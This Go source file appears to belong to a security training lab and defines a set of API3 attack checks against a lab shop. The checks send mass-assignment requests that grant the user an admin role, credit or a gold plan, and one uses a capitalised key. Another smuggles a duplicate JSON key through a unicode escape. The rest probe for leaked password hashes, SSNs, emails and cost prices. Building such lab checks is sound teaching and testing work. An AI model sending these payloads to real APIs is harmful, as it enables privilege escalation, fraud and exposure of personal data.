package lab

// propertyAttacks are API3: properties nobody may set or see.
func propertyAttacks() []Attack {
	own := func(a *attempt) string { return "/accounts/users/" + a.me.ID }
	return []Attack{
		{Name: "mass-assignment-role", Title: "make oneself administrator in one's own profile", Class: API3, Room: "openapi", run: func(a *attempt) (bool, error) {
			a.ask("PATCH", own(a), bearer(a.token), jsonBody(map[string]any{"name": "Mallory", "role": "admin"}))
			return a.did("mass.assignment"), nil
		}},
		{Name: "mass-assignment-credit", Title: "give oneself credit", Class: API3, Room: "openapi", run: func(a *attempt) (bool, error) {
			a.ask("PATCH", own(a), bearer(a.token), jsonBody(map[string]any{"credit_cents": 1_000_000}))
			return a.did("mass.assignment"), nil
		}},
		{Name: "excessive-profile", Title: "a profile that shows the password's hash", Class: API3, Room: "openapi", run: func(a *attempt) (bool, error) {
			a.ask("GET", own(a), bearer(a.token))
			return a.leaked("password_hash"), nil
		}},
		{Name: "excessive-item", Title: "a price list that shows what the shop paid", Class: API3, Room: "openapi", run: func(a *attempt) (bool, error) {
			a.ask("GET", "/catalogue/items")
			return a.leaked("cost_cents"), nil
		}},
		{Name: "mass-assignment-case", Title: "a name in capitals, which some readers take for the same", Class: API3, Room: "openapi", run: func(a *attempt) (bool, error) {
			a.ask("PATCH", own(a), bearer(a.token), jsonBody(map[string]any{"ROLE": "admin"}))
			return a.did("mass.assignment"), nil
		}},
		{Name: "mass-assignment-read-only", Title: "write what is there to be read alone", Class: API3, Room: "openapi", run: func(a *attempt) (bool, error) {
			a.ask("PATCH", own(a), bearer(a.token), jsonBody(map[string]any{"plan": "gold"}))
			return a.did("mass.assignment"), nil
		}},
		{Name: "mass-assignment-duplicate", Title: "a name twice, the second time with another value", Class: API3, Room: "openapi", run: func(a *attempt) (bool, error) {
			a.ask("POST", "/sales/orders", bearer(a.token), jsonText(`{"sku":"ice","quantity":1,"\u0071uantity":1000}`))
			return a.did("json.duplicate") && a.did("order.created"), nil
		}},
		{Name: "excessive-write-only", Title: "a profile that shows what is only ever written", Class: API3, Room: "openapi", run: func(a *attempt) (bool, error) {
			a.ask("PUT", own(a)+"/address", bearer(a.token), jsonBody(map[string]string{"address": "1 Elm Street"}))
			return a.leaked(`"ssn"`), nil
		}},
		{Name: "excessive-export", Title: "an export of one's data, with the password's hash", Class: API3, Room: "openapi", run: func(a *attempt) (bool, error) {
			a.ask("GET", "/export/users/"+a.me.ID+"/data", bearer(a.token))
			return a.leaked("password_hash"), nil
		}},
		{Name: "excessive-support", Title: "support sees every customer's whole address of mail", Class: API3, Room: "openapi", run: func(a *attempt) (bool, error) {
			token := a.shop.Issuer.Token(Claims{Subject: "sue-" + a.run, Roles: []string{"support"}, Scope: userScope})
			a.ask("GET", "/accounts/users", bearer(token))
			return a.leaked("alice@mail.example"), nil
		}},
		{Name: "excessive-partner", Title: "a partner sees what the shop paid", Class: API3, Room: "openapi", run: func(a *attempt) (bool, error) {
			a.ask("GET", "/partner/feed", with("X-API-Key", a.shop.PartnerKey()))
			return a.leaked("cost_cents"), nil
		}},
	}
}
